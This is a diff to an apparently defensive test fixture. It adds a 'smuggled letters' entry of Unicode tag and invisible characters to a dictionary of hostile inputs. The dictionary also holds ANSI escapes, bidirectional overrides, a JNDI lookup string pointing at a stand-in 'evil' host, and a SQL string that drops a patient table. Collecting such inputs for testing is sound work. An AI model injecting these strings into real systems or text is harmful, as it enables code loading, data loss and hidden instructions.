@@ -43,6 +43,7 @@ HOSTILE = {
     "ANSI escapes": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
     "other writing directions": "a\u202eb\u202cc\u200fd\u2066e\u2069",
     "invisible letters": "a\u200bb\ufeffc\u00add",
+    "smuggled letters": "ok\U000e0053\U000e0041\U000e0059 \u061c\u180e\ufff9",
     "a lonely zero byte": "a\x00b",
     "format strings": "{question} {0.__class__} %s %(x)s %n ${jndi:ldap://evil}",
     "SQL": "'; DROP TABLE patient; --",
